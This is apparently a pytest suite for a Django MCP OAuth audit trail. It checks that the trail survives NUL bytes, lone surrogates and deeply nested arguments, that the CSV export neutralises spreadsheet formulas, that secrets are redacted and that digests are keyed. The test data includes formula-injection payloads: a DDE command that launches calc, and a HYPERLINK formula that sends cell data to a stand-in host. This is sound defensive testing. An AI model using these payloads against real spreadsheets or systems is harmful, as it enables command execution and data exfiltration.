"""Attacks on the tool-call audit trail (mcp_oauth.observability.audit_trail and its export).

A client controls the tool name and the arguments of every tools/call it sends, and the trail
records even the calls that are refused (-32602). What it sends must never cost the trail the
records of other calls (a batch the database refuses is lost whole), never stop the writer's
thread, and never turn into a spreadsheet formula in the CSV export.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from mcp_oauth.models import ToolCallRecord
from mcp_oauth.observability.audit_trail import arguments_digest, writer
from mcp_oauth.observability.audit_trail_export import export_lines, records, spreadsheet_safe
from tests.mcp_oauth.observability.test_audit_trail import call

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture(autouse=True)
def _registry(settings):
    settings.MCP_OAUTH = {
        **settings.MCP_OAUTH,
        "TOOL_REGISTRY": "tests.mcp_oauth.observability.test_audit_trail.REGISTRY",
        "TOOL_CALL_AUDIT_FLUSH_MILLISECONDS": 60_000,  # one batch: the flush writes them together
    }
    writer.flush()
    ToolCallRecord.objects.all().delete()  # rows queued by an earlier test, written since
    yield
    writer.stop()  # the thread read the minute-long interval when it started: the next starts afresh


@pytest.fixture
def token(resource, user, public_app, mint_token):
    return mint_token(user, public_app, resource=resource.uri)


def legacy_call(client, token, name, arguments, message_id=1):
    """A 2026-era tools/call (the Mcp-Name header mirrors the name, hostile or not)."""
    return call(client, token, name, arguments, message_id=message_id)


HOSTILE = [
    pytest.param("ev\x00il", {}, id="nul-in-tool-name"),
    pytest.param("ev\ud800il", {}, id="lone-surrogate-in-tool-name"),
    pytest.param("echo", {"word": "a\x00b"}, id="nul-in-argument"),
    pytest.param("echo", {"word": "\udfff"}, id="lone-surrogate-in-argument"),
    pytest.param("echo", {"k\x00": 1}, id="nul-in-argument-key"),
]


@pytest.mark.parametrize(("name", "arguments"), HOSTILE)
@pytest.mark.parametrize("keep_arguments", [False, True])
def test_unstorable_text_costs_no_other_record_and_the_writer_lives_on(
    client, token, settings, name, arguments, keep_arguments
):
    settings.MCP_OAUTH = {**settings.MCP_OAUTH, "TOOL_CALL_AUDIT_ARGUMENTS": keep_arguments}
    failed = writer.failed  # a process-wide count: earlier tests may have had batches refused
    first = legacy_call(client, token, "echo", {"word": "before"}, 1)
    assert first.status_code == 200, first.content
    hostile = legacy_call(client, token, name, arguments, 2)
    assert hostile.status_code == 400  # -32602 is HTTP 400 in the 2026 era
    assert hostile.json()["error"]["code"] == -32602
    assert legacy_call(client, token, "echo", {"word": "after"}, 3).status_code == 200
    assert writer.flush()
    assert writer.failed == failed
    rows = list(ToolCallRecord.objects.order_by("id").values_list("tool", "outcome", "error_code"))
    assert len(rows) == 3
    assert rows[0] == ("echo", "ok", None)
    assert rows[1][1:] == ("error", -32602)
    assert "\x00" not in rows[1][0]
    rows[1][0].encode("utf-8")
    assert rows[2] == ("echo", "ok", None)
    # the writer's thread survived: a later call is written too
    assert legacy_call(client, token, "echo", {"word": "later"}, 4).status_code == 200
    assert writer.flush()
    assert ToolCallRecord.objects.count() == 4


def test_deeply_nested_arguments_do_not_stop_the_writer(client, token, settings):
    settings.MCP_OAUTH = {**settings.MCP_OAUTH, "TOOL_CALL_AUDIT_ARGUMENTS": True}
    nested: object = "x"
    for _ in range(900):
        nested = [nested]
    response = legacy_call(client, token, "echo", {"word": nested}, 1)
    assert response.status_code in (200, 400)
    assert legacy_call(client, token, "echo", {"word": "after"}, 2).status_code == 200
    assert writer.flush()
    assert list(ToolCallRecord.objects.order_by("id").values_list("tool", flat=True))[-1] == "echo"


FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.example/?"&A1)']


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_csv_export_never_starts_a_cell_with_a_formula(client, token, formula):
    assert legacy_call(client, token, formula, {}, 1).status_code == 400  # unknown tool: -32602
    assert writer.flush()
    assert ToolCallRecord.objects.get().tool == formula  # stored as sent
    text = "".join(export_lines(records(), "csv"))
    header, row = list(csv.reader(io.StringIO(text)))
    cell = row[header.index("tool")]
    assert cell == "'" + formula
    # JSON Lines carries the value as is (no spreadsheet reads it)
    line = json.loads("".join(export_lines(records(), "jsonl")))
    assert line["tool"] == formula


def test_the_csv_export_leaves_negative_numbers_and_plain_text_alone(client, token):
    assert legacy_call(client, token, "nope", {}, 1).status_code == 400
    assert writer.flush()
    text = "".join(export_lines(records(), "csv"))
    header, row = list(csv.reader(io.StringIO(text)))
    assert row[header.index("tool")] == "nope"
    assert row[header.index("error_code")] == "-32602"


def test_a_leading_tab_or_carriage_return_is_neutralised_too():
    # (the Mcp-Name header cannot carry them to the trail: HTTP trims header whitespace; a row
    # written by another path still exports safely)
    assert spreadsheet_safe("\t=1") == "'\t=1"
    assert spreadsheet_safe("\r=1") == "'\r=1"
    assert spreadsheet_safe(-32602) == -32602
    assert spreadsheet_safe("echo") == "echo"


def test_an_erasure_also_anonymises_the_calls_still_queued(client, token, user, settings, monkeypatch):
    from mcp_oauth.authorization_server.user_data.erasure import erase_user_data

    settings.MCP_OAUTH = {**settings.MCP_OAUTH, "TOOL_CALL_AUDIT_ARGUMENTS": True}
    writer.stop()
    monkeypatch.setattr(writer, "_start", lambda: None)  # the call stays queued: no thread writes it yet
    assert legacy_call(client, token, "echo", {"word": "private"}, 1).status_code == 200
    assert writer.pending() == 1
    monkeypatch.undo()
    counts = erase_user_data(user)
    assert counts["tool_calls_anonymised"] == 1
    assert writer.flush()
    row = ToolCallRecord.objects.get()
    assert (row.user_id, row.arguments, row.arguments_digest) == (None, None, "")
    assert row.tool == "echo"


def test_the_digest_of_a_redacted_password_cannot_be_guessed_back(client, token, settings):
    """A reader of the trail (staff, an export) holds the digest of every call: a plain SHA-256 of
    ``{"password": "hunter2", ...}`` would give the password to a dictionary in seconds."""
    import hashlib

    settings.MCP_OAUTH = {**settings.MCP_OAUTH, "TOOL_CALL_AUDIT_ARGUMENTS": True}
    arguments = {"word": "yo", "api_token": "hunter2"}
    assert legacy_call(client, token, "echo", arguments, 1).status_code == 200
    assert writer.flush()
    row = ToolCallRecord.objects.get()
    assert row.arguments == {"word": "yo", "api_token": "[redacted]"}
    dictionary = ["123456", "password", "hunter2", "s3cret"]
    guesses = {
        hashlib.sha256(
            json.dumps({**arguments, "api_token": word}, sort_keys=True, separators=(",", ":")).encode()
        ).hexdigest()
        for word in dictionary
    }
    assert row.arguments_digest not in guesses
    assert len(row.arguments_digest) == 64
    settings.SECRET_KEY = "another-key-" + "x" * 40
    assert arguments_digest(arguments) != row.arguments_digest  # keyed by SECRET_KEY


@pytest.mark.parametrize(
    "key",
    [
        "api-key",
        "API-Key",
        "apiKey",
        "x-api-key",
        "pasſword",
        "ｐａｓｓｗｏｒｄ",
        "Pass Word",
        "client.secret",
        "PASSWD",
        "aws_credentials",
        "privateKey",
        "session_cookie",
        "access-token",
    ],
)
def test_the_default_redaction_is_not_bypassed_by_spelling(key):
    from mcp_oauth.adapter import DefaultMCPAdapter

    kept = DefaultMCPAdapter().redact_tool_arguments("echo", {"word": "yo", "nested": [{key: "hunter2"}]})
    assert kept == {"word": "yo", "nested": [{key: "[redacted]"}]}
